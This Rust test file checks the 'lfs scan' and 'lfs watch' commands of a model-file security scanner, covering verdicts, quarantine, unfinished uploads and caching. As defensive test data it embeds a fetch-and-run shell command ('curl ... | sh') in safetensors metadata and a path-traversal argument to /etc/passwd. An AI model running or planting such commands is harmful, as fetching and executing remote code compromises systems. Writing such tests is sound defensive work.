//! `modelgate lfs scan` and `modelgate lfs watch` on a Gitea-layout store: verdicts, exit
//! codes, the quarantine, unfinished uploads, and the cache they share with the hook.

mod git_support;
use git_support::*;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

struct Store {
    e: Env,
    root: PathBuf,
    policy: PathBuf,
}

fn store() -> Store {
    let e = Env::new();
    let root = e.dir.path().join("lfs-store");
    std::fs::create_dir_all(&root).unwrap();
    let text = format!("[lfs]\nlayout = \"gitea\"\nroot = \"{}\"\n", root.display());
    let policy = e.policy("lfs.toml", &text);
    // The hook finds the same policy in the repository.
    std::fs::write(e.bare.join("modelgate.toml"), &text).unwrap();
    Store { e, root, policy }
}

fn lfs(s: &Store, args: &[&str], stdin: &[u8]) -> Output {
    let mut c = Command::new(BIN);
    c.arg("lfs")
        .args(args)
        .arg("--policy")
        .arg(&s.policy)
        .arg("--git-dir")
        .arg(&s.e.bare)
        .env_remove("MODELGATE_POLICY")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    child.stdin.take().unwrap().write_all(stdin).unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn lfs_scan_prints_verdicts_exits_by_policy_and_feeds_the_cache() {
    let s = store();
    let good_bytes = safetensors(None);
    let sus_bytes = safetensors(Some(("cmd", "curl http://example.com/x | sh")));
    let good = put_gitea_object(&s.root, &good_bytes);
    let sus = put_gitea_object(&s.root, &sus_bytes);
    let bad = put_gitea_object(&s.root, BAD);

    let o = lfs(&s, &["scan", &good, &format!("sha256:{sus}")], b"");
    assert_eq!(o.status.code(), Some(0), "{}{}", show(&o.stdout), show(&o.stderr));
    let out = show(&o.stdout);
    assert!(out.contains(&format!("sha256:{good} safe (safetensors) allow")), "{out}");
    assert!(
        out.contains(&format!("sha256:{sus} suspicious (safetensors) tag [safetensors-metadata-suspicious]")),
        "{out}"
    );

    // Oids on stdin, JSON out; a rejected object makes the exit code 1.
    let missing = "0".repeat(64);
    let o = lfs(&s, &["scan", "--format", "json"], format!("{bad}\n\nsha256:{missing}\n").as_bytes());
    assert_eq!(o.status.code(), Some(1), "{}", show(&o.stderr));
    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(doc["objects"][0]["oid"], bad.as_str());
    assert_eq!(doc["objects"][0]["verdict"], BAD_VERDICT);
    assert_eq!(doc["objects"][0]["decision"], "reject");
    assert_eq!(doc["objects"][0]["findings"][0]["code"], BAD_CODE);
    assert_eq!(doc["objects"][1]["findings"][0]["code"], "lfs-object-missing");
    assert_eq!(doc["objects"][1]["decided_by"], "policy lfs_missing = reject");
    assert_eq!(doc["summary"]["reject"], 2);

    // Garbage is refused before anything is read.
    let o = lfs(&s, &["scan", "../../etc/passwd"], b"");
    assert_eq!(o.status.code(), Some(2));
    assert!(show(&o.stderr).contains("not a git lfs oid"), "{}", show(&o.stderr));
    let audit = s.e.audit();
    assert_eq!(audit.iter().filter(|r| r["event"] == "lfs-scanned").count(), 4, "{audit:?}");

    // A push of pointers to the scanned objects is answered from the cache.
    s.e.write("a.safetensors", &pointer(&good_bytes));
    s.e.write("b.safetensors", &pointer(&sus_bytes));
    s.e.commit("pointers");
    let out = assert_accepted(s.e.push(&["main"]));
    assert!(out.contains("2 new file(s) checked (2 from cache)"), "{out}");
    // ...but the object must still be there and match its pointer.
    std::fs::write(s.root.join(&good[0..2]).join(&good[2..4]).join(&good[4..]), b"tampered").unwrap();
    s.e.write("c.safetensors", &pointer(&good_bytes));
    s.e.commit("pointer again");
    let out = assert_rejected(s.e.push(&["main"]));
    assert!(out.contains("lfs-object-mismatch"), "{out}");
}

fn object_path(root: &Path, oid: &str) -> PathBuf {
    root.join(&oid[0..2]).join(&oid[2..4]).join(&oid[4..])
}

#[test]
fn lfs_watch_once_quarantines_rejected_objects_and_waits_for_unfinished_ones() {
    let s = store();
    let q = s.e.dir.path().join("quarantine");
    let good = put_gitea_object(&s.root, &safetensors(None));
    let bad = put_gitea_object(&s.root, BAD);
    // An upload in progress: named by its oid, holding only part of its bytes.
    let whole = safetensors(Some(("k", "a longer value so that the upload is in two parts")));
    let partial = sha256_hex(&whole);
    let ppath = object_path(&s.root, &partial);
    std::fs::create_dir_all(ppath.parent().unwrap()).unwrap();
    std::fs::write(&ppath, &whole[..20]).unwrap();
    // Temporary files of the forges, never candidates.
    std::fs::create_dir_all(s.root.join("tmp")).unwrap();
    std::fs::write(s.root.join("tmp").join(&bad), BAD).unwrap();
    std::fs::write(object_path(&s.root, &bad).with_file_name("upload-1234.tmp"), BAD).unwrap();

    let q_arg = q.to_str().unwrap();
    let o = lfs(&s, &["watch", "--once", "--settle", "0s", "--quarantine", q_arg], b"");
    assert!(o.status.success(), "{}", show(&o.stderr));
    let out = show(&o.stdout);
    let err = show(&o.stderr);
    assert!(out.contains(&format!("sha256:{good} safe (safetensors) allow")), "{out}");
    assert!(out.contains(&format!("sha256:{bad} {BAD_VERDICT}")), "{out}");
    assert!(out.contains(&format!("quarantined to {}", q.join(&bad).display())), "{out}");
    assert!(!out.contains(&partial), "an unfinished upload is not judged: {out}");
    assert_eq!(out.lines().count(), 2, "{out}");
    assert!(err.contains("2 object(s) judged, 1 rejected, 1 quarantined, 1 not finished yet"), "{err}");
    // The rejected object can no longer be served; its verdict is beside it.
    assert!(!object_path(&s.root, &bad).exists());
    assert_eq!(std::fs::read(q.join(&bad)).unwrap(), BAD);
    let meta: serde_json::Value =
        serde_json::from_slice(&std::fs::read(q.join(format!("{bad}.json"))).unwrap()).unwrap();
    assert_eq!(meta["verdict"]["decision"], "reject");
    assert!(object_path(&s.root, &good).exists());
    assert!(s.root.join("tmp").join(&bad).exists(), "temporary files are left alone");

    // The upload completes: the next poll judges it; the verdict already given comes from
    // the cache. JSON lines this time.
    std::fs::write(&ppath, &whole).unwrap();
    let o = lfs(&s, &["watch", "--once", "--settle", "0s", "--format", "json", "--quarantine", q_arg], b"");
    assert!(o.status.success(), "{}", show(&o.stderr));
    let lines: Vec<serde_json::Value> = show(&o.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    let by_oid = |oid: &str| lines.iter().find(|v| v["oid"] == oid).unwrap().clone();
    assert_eq!(by_oid(&good)["cached"], true);
    assert_eq!(by_oid(&partial)["verdict"], "safe");
    assert_eq!(by_oid(&partial)["cached"], false);
    let audit = s.e.audit();
    assert_eq!(audit.iter().filter(|r| r["event"] == "lfs-watched").count(), 4, "{audit:?}");

    // Its verdict feeds the hook.
    s.e.write("late.safetensors", &pointer(&whole));
    s.e.commit("pointer to the late object");
    let out = assert_accepted(s.e.push(&["main"]));
    assert!(out.contains("1 new file(s) checked (1 from cache)"), "{out}");
}

#[test]
fn lfs_watch_waits_for_a_stable_size_between_polls() {
    let s = store();
    let oid = put_gitea_object(&s.root, &safetensors(None));
    // Recent files are judged only once their size and time held still for a poll.
    let o = lfs(&s, &["watch", "--max-iterations", "1", "--settle", "1h"], b"");
    assert!(o.status.success());
    assert!(show(&o.stdout).is_empty(), "{}", show(&o.stdout));
    assert!(show(&o.stderr).contains("0 object(s) judged") && show(&o.stderr).contains("1 not finished yet"));
    let o = lfs(&s, &["watch", "--max-iterations", "2", "--interval", "10ms", "--settle", "1h"], b"");
    assert!(o.status.success());
    assert!(show(&o.stdout).contains(&format!("sha256:{oid} safe")), "{}", show(&o.stdout));
    assert!(show(&o.stderr).contains("2 poll(s), 1 object(s) judged"), "{}", show(&o.stderr));
}

/// A long-running watch remembers objects one by one only while they are recent: judged
/// objects are passed over by their ctime afterwards, yet an object renamed into a directory
/// the poll had already listed (with an old mtime, as a finished upload has) and an object
/// changed after it was judged are both looked at again.
#[test]
fn lfs_watch_memory_is_bounded_by_recency() {
    use modelgate::hook::lfs_store::{LfsRun, WatchOptions};
    use std::time::{Duration, SystemTime};
    let s = store();
    let policy = modelgate::policy::Policy::from_file(&s.policy).unwrap();
    let run = LfsRun { policy: &policy, config: modelgate::hook::gate::hook_config(&policy), base: s.e.bare.clone() };
    // More objects than one batch of judgements.
    let oids: Vec<String> = (0..300).map(|i| put_gitea_object(&s.root, format!("object {i}\n").as_bytes())).collect();
    // An upload finished in a temporary file an hour ago, renamed into the store during the
    // first poll under a name that sorts before every other object (so that poll has listed
    // its directory already).
    let first = oids.iter().min().unwrap().clone();
    let late_bytes = (0..).map(|i| format!("late {i}\n").into_bytes()).find(|b| sha256_hex(b) < first).unwrap();
    let late = sha256_hex(&late_bytes);
    let tmp = s.root.join("tmp-upload");
    std::fs::write(&tmp, &late_bytes).unwrap();
    let hour_ago = SystemTime::now() - Duration::from_secs(3600);
    std::fs::File::options().write(true).open(&tmp).unwrap().set_modified(hour_ago).unwrap();
    let late_path = s.root.join(&late[0..2]).join(&late[2..4]).join(&late[4..]);
    let tampered = s.root.join(&oids[5][0..2]).join(&oids[5][2..4]).join(&oids[5][4..]);

    let opts = WatchOptions {
        quarantine: None,
        interval: Duration::from_millis(10),
        settle: Duration::ZERO,
        max_iterations: Some(3),
        remember: Duration::ZERO,
    };
    let mut reported: Vec<String> = Vec::new();
    let mut report = |v: &modelgate::hook::lfs_store::ObjectVerdict| {
        reported.push(v.oid.clone());
        if reported.len() == 1 {
            std::fs::create_dir_all(late_path.parent().unwrap()).unwrap();
            std::fs::rename(&tmp, &late_path).unwrap();
        }
        if v.oid == late {
            // Changed after it was judged (a verdict cached for the same size would be
            // taken without hashing, so another size).
            std::fs::write(&tampered, b"object 5, changed\n").unwrap();
        }
    };
    let mut err = Vec::new();
    let summary = run.watch(&opts, &mut report, &mut err).unwrap();
    assert_eq!(summary.judged, 301, "{summary:?} {}", show(&err));
    assert_eq!(reported.len(), 301);
    assert_eq!(reported.last(), Some(&late), "the late object is found by the second poll");
    let unique: std::collections::HashSet<&String> = reported.iter().collect();
    assert_eq!(unique.len(), 301, "each object is judged once");
    // The changed object no longer hashes to its oid: taken as still being written.
    assert_eq!(summary.pending, 1, "{summary:?}");
    // Only that object is remembered; 300 judged objects are not.
    assert_eq!(summary.remembered, 1, "{summary:?}");

    // With the default margin every object here is recent, hence remembered.
    let opts = WatchOptions { max_iterations: Some(2), remember: WatchOptions::REMEMBER, ..opts };
    let summary = run.watch(&opts, &mut |_| {}, &mut err).unwrap();
    assert_eq!(summary.remembered, 301, "{summary:?}");
    assert_eq!(summary.judged, 300, "{summary:?}");
}

/// An LFS object whose content no format matches: `lfs scan` (which knows no name) caches it
/// as unsupported, and a pointer to it under a name that claims a model is still an error,
/// not served from that cache; under a neutral name the cached verdict serves.
#[test]
fn a_cached_lfs_verdict_does_not_dodge_a_pointers_model_name() {
    let s = store();
    // Past 1 MiB, so that the unsupported verdict is cached.
    let mut bytes = b"\xfe\xed\xfa\xce".to_vec();
    bytes.extend((0..1_200_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    let oid = put_gitea_object(&s.root, &bytes);
    let o = lfs(&s, &["scan", &oid], b"");
    assert!(show(&o.stdout).contains("unsupported"), "{}{}", show(&o.stdout), show(&o.stderr));

    s.e.write("data.bin", &pointer(&bytes));
    s.e.commit("neutral name");
    let out = assert_accepted(s.e.push(&["main"]));
    assert!(out.contains("(1 from cache)"), "{out}");

    s.e.write("weights/model.safetensors", &pointer(&bytes));
    s.e.commit("a name that claims a model");
    let out = assert_rejected(s.e.push(&["main"]));
    assert!(out.contains("model-content-unrecognised"), "{out}");
}
